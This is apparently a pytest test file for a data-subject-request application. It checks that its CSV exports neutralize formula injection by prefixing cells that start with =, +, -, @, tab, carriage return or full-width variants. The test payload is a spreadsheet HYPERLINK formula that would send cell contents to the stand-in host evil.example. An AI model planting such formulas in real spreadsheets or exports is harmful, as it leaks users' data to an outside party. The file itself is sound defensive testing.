"""Every CSV dsar writes neutralizes cells a spreadsheet would run as a formula: those starting
with =, +, -, @, a tab or a carriage return, and the full-width forms of the first four."""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pytest

from dsar.letters.packages import records_to_csv
from dsar.lib import spreadsheet
from dsar.requests import csv_io, reports, services

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
IDS = ["equals", "plus", "minus", "at", "tab", "cr", "fw-equals", "fw-plus", "fw-minus", "fw-at"]


def payload(prefix: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_the_formula_function_neutralizes(prefix):
    assert spreadsheet.neutralize(payload(prefix)) == "'" + payload(prefix)
    assert csv_io.escape_cell(payload(prefix)) == "'" + payload(prefix)
    assert csv_io.unescape_cell(csv_io.escape_cell(payload(prefix))) == payload(prefix)


def test_plain_text_is_left_alone():
    for text in ["Dana Data", "dana@example.org", "", "'quoted", "\uff24\uff41\uff4e\uff41"]:
        assert spreadsheet.neutralize(text) == text


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_the_requests_export(img, prefix):
    services.request_log(
        organization=img,
        right_kind="access",
        channel_kind="email",
        received_at=dt.datetime(2026, 3, 1, 12, 0, tzinfo=dt.UTC),
        requester_name=payload(prefix),
        requester_email="dana@example.org",
        subject_line=payload(prefix),
        message=payload(prefix),
    )
    out = io.StringIO()

    csv_io.export_requests(out, organization=img)

    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    record = dict(zip(header, row, strict=True))
    for column in ("requester_name", "subject_line", "message"):
        assert record[column] == "'" + payload(prefix), column


@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_the_reports_csv(prefix):
    row = SimpleNamespace(
        key="access",
        label=payload(prefix),
        received=1,
        complied=1,
        denied=0,
        closed_otherwise=0,
        open=0,
        median_days=2.0,
        mean_days=2.0,
        with_deadline=1,
        on_time=1,
        on_time_rate=1.0,
    )
    report = SimpleNamespace(
        organization=SimpleNamespace(slug="img"),
        year=2026,
        by_right=[row],
        by_channel=[],
        total=row,
    )
    out = io.StringIO()

    reports.write_csv([report], out)

    lines = list(csv.reader(io.StringIO(out.getvalue())))
    labels = [line[4] for line in lines[1:]]
    assert labels == ["'" + payload(prefix)] * 2
    assert lines[1][5] == "1"  # numbers are written as they are


@pytest.mark.parametrize("prefix", PREFIXES, ids=IDS)
def test_the_data_package_csv(prefix):
    text = records_to_csv([{"note": payload(prefix)}]).decode("utf-8-sig")

    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + payload(prefix)]
